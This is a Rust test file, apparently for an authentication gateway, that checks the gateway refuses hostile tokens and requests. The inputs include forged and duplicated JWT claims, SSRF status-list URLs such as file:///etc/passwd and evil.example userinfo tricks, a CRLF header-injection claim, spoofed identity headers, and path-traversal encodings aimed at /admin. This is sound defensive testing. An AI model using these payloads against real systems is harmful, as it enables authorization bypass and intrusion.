    // Duplicated claims: refused, whichever copy a lenient parser would keep.
    let body = claims.to_string();
    let body = &body[1..body.len() - 1];
    for (name, extra) in [
        ("iss twice", r#""iss":"evil.example""#.to_string()),
        ("sub twice", r#""sub":"someone-else""#.to_string()),
        ("exp twice", format!(r#""exp":{}"#, now + 999_999)),
        ("iat twice", format!(r#""iat":{}"#, now)),
        ("type twice", r#""type":"email""#.to_string()),
        (
            "identifier_hash twice",
            r#""identifier_hash":"00""#.to_string(),
        ),
        ("channel twice", r#""channel":"email""#.to_string()),
    ] {
        c.add(
            "duplicate JSON keys",
            format!("{name} (after)"),
            raw(format!("{{{body},{extra}}}")),
            Reason::Malformed,
        );
        c.add(
            "duplicate JSON keys",
            format!("{name} (before)"),
            raw(format!("{{{extra},{body}}}")),
            Reason::Malformed,
        );
    }
    // Issuer look-alikes.
    for iss in [
        json!("Proof.Holdings"),
        json!("proof.holdings."),
        json!("https://proof.holdings"),
        json!("proof.holdings\u{0}"),
        json!("proof.hoIdings"),
        json!("proof․holdings"),
        json!(""),
    ] {
        c.add(
            "issuer",
            format!("iss {iss}"),
            sign(with(claims.clone(), "iss", iss)),
            Reason::Issuer,
        );
    }
    c.add(
        "issuer",
        "iss an array",
        sign(with(claims.clone(), "iss", json!(["proof.holdings"]))),
        Reason::Malformed,
    );
    let mut no_iss = claims.clone();
    no_iss.as_object_mut().unwrap().remove("iss");
    c.add("issuer", "iss missing", sign(no_iss), Reason::Issuer);
    // Audience and subject.
    for (aud, want) in [
        (json!(""), None),
        (json!([]), None),
        (json!(null), None),
        (json!("proofgate"), Some(Reason::InvalidClaims)),
        (json!(["proofgate"]), Some(Reason::InvalidClaims)),
        (json!([""]), Some(Reason::InvalidClaims)),
        (json!(0), Some(Reason::InvalidClaims)),
        (json!({}), Some(Reason::InvalidClaims)),
    ] {
        let t = sign(with(claims.clone(), "aud", aud.clone()));
        match want {
            Some(w) => c.add("audience", format!("aud {aud}"), t, w),
            None => c.ok("audience", format!("aud {aud}"), t),
        }
    }
    c.add(
        "subject",
        "sub empty",
        sign(with(claims.clone(), "sub", json!(""))),
        Reason::InvalidClaims,
    );
    c.add(
        "subject",
        "sub null",
        sign(with(claims.clone(), "sub", json!(null))),
        Reason::InvalidClaims,
    );
    c.add(
        "subject",
        "sub an array",
        sign(with(claims.clone(), "sub", json!(["a"]))),
        Reason::Malformed,
    );
    c.add(
        "subject",
        "jti a number",
        sign(with(claims.clone(), "jti", json!(7))),
        Reason::Malformed,
    );
    c.add(
        "payload form",
        "payload empty",
        raw(String::new()),
        Reason::Malformed,
    );
    c.add(
        "payload form",
        "payload null",
        raw("null".into()),
        Reason::Malformed,
    );
    c.add(
        "payload form",
        "payload with a BOM",
        raw(format!("\u{feff}{}", claims)),
        Reason::Malformed,
    );
    c.add(
        "payload form",
        "payload with trailing data",
        raw(format!("{claims}{{}}")),
        Reason::Malformed,
    );
    c.add(
        "payload form",
        "payload deep nesting",
        raw(format!(
            "{{\"x\":{}{}}}",
            "[".repeat(10_000),
            "]".repeat(10_000)
        )),
        Reason::Malformed,
    );
    c.ok(
        "payload form",
        "unknown claims are ignored",
        sign(with(claims.clone(), "admin", json!(true))),
    );
    c.check(&r);
}

#[tokio::test]
async fn revocation_evasion() {
    let r = rig().await;
    let k = &r.key;
    r.server.set_revocation_list(testing::revocation_list(
        Some(k),
        &["revoked-sub", "revoked-pid"],
    ));
    r.revocation.refresh_list().await.unwrap();
    let claims = base_claims();
    let mut c = Corpus::default();
    c.add(
        "revocation",
        "listed sub",
        k.sign_json(&with(claims.clone(), "sub", json!("revoked-sub"))),
        Reason::Revoked,
    );
    let mut t = with(claims.clone(), "sub", json!("revoked-sub"));
    t["proof_id"] = json!("fresh-id");
    c.add(
        "revocation",
        "listed sub, another proof_id",
        k.sign_json(&t),
        Reason::Revoked,
    );
    let t = with(claims.clone(), "proof_id", json!("revoked-pid"));
    c.add(
        "revocation",
        "listed proof_id, another sub",
        k.sign_json(&t),
        Reason::Revoked,
    );
    // A status claim cannot vouch for a listed token, nor send the gateway elsewhere.
    let uri = r.server.status_list_url("1");
    r.server
        .set_status_list("1", testing::status_list_jwt(k, &uri, 2, &[0, 0], 60));
    r.revocation.refresh_status_list(&uri).await.unwrap();
    let t = testing::with_status(
        serde_json::from_value(with(claims.clone(), "sub", json!("revoked-sub"))).unwrap(),
        &uri,
        0,
    );
    c.add(
        "revocation",
        "listed sub with a valid status slot",
        k.sign(&t),
        Reason::Revoked,
    );
    let origin = r.server.base_url();
    let host = origin.trim_start_matches("http://");
    for (name, uri) in [
        (
            "userinfo trick",
            format!("http://{host}@evil.example/status/1"),
        ),
        (
            "subdomain trick",
            format!("http://{host}.evil.example/status/1"),
        ),
        ("other scheme", format!("https://{host}/status/1")),
        ("file URL", "file:///etc/passwd".to_string()),
        ("not a URL", "status/1".to_string()),
        ("other port", "http://127.0.0.1:1/status/1".to_string()),
    ] {
        let t = testing::with_status(serde_json::from_value(claims.clone()).unwrap(), &uri, 0);
        assert!(
            !r.revocation.may_fetch(&uri),
            "{name}: {uri} may be fetched"
        );
        c.add(
            "status list ssrf",
            name,
            k.sign(&t),
            Reason::StatusUnavailable,
        );
    }
    for (name, idx) in [
        ("slot past the end", json!(1_000_000)),
        ("slot u64::MAX", json!(u64::MAX)),
    ] {
        let mut t = serde_json::to_value(testing::with_status(
            serde_json::from_value(claims.clone()).unwrap(),
            &uri,
            0,
        ))
        .unwrap();
        t["status"]["status_list"]["idx"] = idx;
        c.add(
            "status list",
            name,
            k.sign_json(&t),
            Reason::StatusUnavailable,
        );
    }
    for (name, idx) in [
        ("slot negative", json!(-1)),
        ("slot a string", json!("0")),
        ("slot a fraction", json!(0.5)),
    ] {
        let mut t = serde_json::to_value(testing::with_status(
            serde_json::from_value(claims.clone()).unwrap(),
            &uri,
            0,
        ))
        .unwrap();
        t["status"]["status_list"]["idx"] = idx;
        c.add("status list", name, k.sign_json(&t), Reason::Malformed);
    }
    c.ok("control", "unlisted", k.sign_json(&claims));
    c.check(&r);
}

/// Request-level tricks that the core decides: how tokens are presented, which path a policy
/// is looked up for, and which identity headers reach the upstream.
#[tokio::test]
async fn request_level_attacks() {
    let r = rig().await;
    let k = &r.key;
    let good = phone_token(k, "req");
    let forged = phone_token(&SigningKey::rsa(KID), "req");
    let policy =
        Policy::any_of("phones", vec![Requirement::of_type("phone")]).on_failure(OnFailure::Deny);
    let decide = |pairs: &[(&str, &[u8])]| {
        let mut h = HeaderMap::new();
        for (name, value) in pairs {
            h.append(
                http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
                HeaderValue::from_bytes(value).unwrap(),
            );
        }
        r.enforcer.decide(&policy, &h)
    };
    let bearer = format!("Bearer {good}");
    let forged_bearer = format!("Bearer {forged}");
    let big = format!("Bearer {}", "a".repeat(1024 * 1024));
    type Headers = Vec<(&'static str, Vec<u8>)>;
    let cases: Vec<(&str, Headers, Option<Reason>)> = vec![
        (
            "control: bearer",
            vec![("authorization", bearer.clone().into())],
            None,
        ),
        (
            "two Authorization headers, good first",
            vec![
                ("authorization", bearer.clone().into()),
                ("authorization", forged_bearer.clone().into()),
            ],
            Some(Reason::Malformed),
        ),
        (
            "two Authorization headers, good second",
            vec![
                ("authorization", forged_bearer.clone().into()),
                ("authorization", bearer.clone().into()),
            ],
            Some(Reason::Malformed),
        ),
        (
            "two bearer tokens in one header",
            vec![(
                "authorization",
                format!("Bearer {good}, Bearer {forged}").into(),
            )],
            Some(Reason::Malformed),
        ),
        (
            "empty bearer",
            vec![("authorization", b"Bearer ".to_vec())],
            Some(Reason::Malformed),
        ),
        (
            "folded-looking bearer",
            vec![("authorization", format!("Bearer\t{good}").into())],
            Some(Reason::Missing),
        ),
        (
            "obs-text in the bearer",
            vec![(
                "authorization",
                [b"Bearer ".as_slice(), good.as_bytes(), &[0xff]].concat(),
            )],
            Some(Reason::Malformed),
        ),
        (
            "a forged bearer does not fall back to a good cookie",
            vec![
                ("authorization", forged_bearer.clone().into()),
                ("cookie", format!("proof_token={good}").into()),
            ],
            Some(Reason::InvalidSignature),
        ),
        (
            "Basic auth is not a token; the cookie is used",
            vec![
                ("authorization", b"Basic dXNlcjpwYXNz".to_vec()),
                ("cookie", format!("proof_token={good}").into()),
            ],
            None,
        ),
        (
            "five tokens in x-proof-token",
            vec![("x-proof-token", [good.as_str(); 5].join(",").into())],
            Some(Reason::Malformed),
        ),
        (
            "five x-proof-token headers",
            (0..5)
                .map(|_| ("x-proof-token", good.clone().into_bytes()))
                .collect(),
            Some(Reason::Malformed),
        ),
        (
            "one good, one forged token (any_of)",
            vec![("x-proof-token", format!("{forged}, {good}").into())],
            None,
        ),
        (
            "cookie name in capitals",
            vec![("cookie", format!("PROOF_TOKEN={good}").into())],
            Some(Reason::Missing),
        ),
        (
            "cookie name prefixed",
            vec![("cookie", format!("xproof_token={good}").into())],
            Some(Reason::Missing),
        ),
        (
            "1 MB bearer",
            vec![("authorization", big.into())],
            Some(Reason::Malformed),
        ),
        (
            "spoofed identity headers alone",
            vec![
                ("x-proof-subject", b"admin".to_vec()),
                ("x-proof-type", b"phone".to_vec()),
            ],
            Some(Reason::Missing),
        ),
    ];
    let mut wrong = Vec::new();
    for (name, pairs, want) in &cases {
        let refs: Vec<(&str, &[u8])> = pairs.iter().map(|(n, v)| (*n, v.as_slice())).collect();
        let d = decide(&refs);
        let ok = match want {
            None => matches!(d, Decision::Allow { .. }),
            Some(w) => d.reason() == Some(*w) && !matches!(d, Decision::Allow { .. }),
        };
        if !ok {
            wrong.push(format!("{name}: want {want:?}, got {d:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));

    // Spoofed identity headers never survive to the upstream, whatever their case, and the
    // real ones come only from verified claims.
    let mut h = HeaderMap::new();
    h.insert(http::header::AUTHORIZATION, bearer.parse().unwrap());
    for name in [
        "x-proof-subject",
        "X-Proof-Type",
        "X-PROOF-CHANNEL",
        "x-proof-identifier-hash",
        "x-proof-verified-at",
        "x-proof-admin",
    ] {
        h.append(
            http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
            HeaderValue::from_static("spoofed"),
        );
    }
    let Decision::Allow { proofs } = r.enforcer.decide(&policy, &h) else {
        panic!("the good token was refused");
    };
    let edits = upstream_edits(&h, &proofs, r.enforcer.sources(), true);
    for name in h.keys().filter(|n| n.as_str().starts_with("x-proof-")) {
        assert!(
            edits.remove.contains(name),
            "{name} would reach the upstream"
        );
    }
    assert!(edits.remove.contains(&http::header::AUTHORIZATION));
    assert!(edits.set.iter().all(|(_, v)| v != "spoofed"));
    let set: Vec<&str> = edits.set.iter().map(|(n, _)| n.as_str()).collect();
    assert!(set.contains(&"x-proof-subject"), "{set:?}");

    // Header injection through claim values: a value that is not a valid header is left out.
    let hostile = testing::claims(
        "inj",
        "phone",
        "sms\r\nx-proof-subject: admin",
        "+37069199199",
    );
    let proof = r.enforcer.check_token(&k.sign(&hostile)).unwrap();
    let headers = identity_headers(&[proof]);
    assert!(
        headers
            .iter()
            .all(|(n, v)| n != "x-proof-channel" && !v.as_bytes().contains(&b'\n')),
        "{headers:?}"
    );
    assert_eq!(
        headers
            .iter()
            .filter(|(n, _)| n == "x-proof-subject")
            .count(),
        1
    );

    // Token extraction refuses or ignores what it cannot read, without panicking.
    let mut h = HeaderMap::new();
    h.insert(
        http::header::COOKIE,
        HeaderValue::from_bytes(b"proof_token=\xff\xfe").unwrap(),
    );
    assert_eq!(extract_tokens(&h, &TokenSource::defaults()), Ok(vec![]));
}

#[test]
fn path_tricks_get_the_policy_of_the_resource_they_name() {
    let route = |name: &str, path: &str| Route {
        name: name.into(),
        hosts: vec![],
        path: PathPattern::parse(path).unwrap(),
        methods: vec![],
        policy: Arc::new(Policy::public(name)),
        upstream: None,
    };
    let table = RouteTable::new(
        vec![route("admin", "/admin/**"), route("public", "/public/**")],
        Arc::new(Policy::deny("default")),
    );
    let cases: &[(&str, Result<&str, PathError>)] = &[
        ("/admin", Ok("admin")),
        ("/ADMIN/users", Ok("admin")),
        ("//admin", Ok("admin")),
        ("///admin//users", Ok("admin")),
        ("/public/../admin", Ok("admin")),
        ("/public/%2e%2e/admin", Ok("admin")),
        ("/public/%2E%2e/admin", Ok("admin")),
        ("/public/.%2e/admin", Ok("admin")),
        ("/public/./../admin", Ok("admin")),
        ("/public/x/../../admin", Ok("admin")),
        ("/../../../admin", Ok("admin")),
        ("/%61dmin", Ok("admin")),
        ("/%41DMIN", Ok("admin")),
        ("/admin;jsessionid=1/users", Ok("admin")),
        ("/admin/;/users", Ok("admin")),
        ("/admin?/public/x", Ok("admin")),
        ("/admin#/public/x", Ok("admin")),
        ("/public/x?../../admin", Ok("public")),
        ("/public/..%2fadmin", Err(PathError::EncodedSlash)),
        ("/public%2f..%2fadmin", Err(PathError::EncodedSlash)),
        ("/public/..;/admin", Err(PathError::DotSegmentParameters)),
        ("/public/.;x/admin", Err(PathError::DotSegmentParameters)),
        ("/public\\..\\admin", Err(PathError::Backslash)),
        ("/public/..%5cadmin", Err(PathError::Backslash)),
        ("/public/%252e%252e/admin", Err(PathError::DoubleEncoding)),
        ("/public/%25252e/admin", Err(PathError::DoubleEncoding)),
        ("/admin%00.public", Err(PathError::Nul)),
        ("/public/%0a/../admin", Err(PathError::ControlCharacter)),
        ("/public/%zz", Err(PathError::InvalidEscape)),
        ("/public/%2", Err(PathError::InvalidEscape)),
        ("admin", Err(PathError::NotAbsolute)),
        ("http://evil.example/admin", Err(PathError::NotAbsolute)),
        // Look-alikes are other resources: they fall to the default (deny), never to public.
        ("/admin%20", Ok("default")),
        ("/admin.", Ok("default")),
        ("/\u{ff41}dmin", Ok("default")),
        ("/publicx/../admin", Ok("admin")),
        ("/publicity", Ok("default")),
    ];
    let mut wrong = Vec::new();
    for (raw, want) in cases {
        let got = normalize_path(raw).map(|p| table.route(&Method::GET, None, &p).name.to_string());
        if got.as_deref().map_err(|e| *e) != *want {
            wrong.push(format!("{raw:?}: want {want:?}, got {got:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
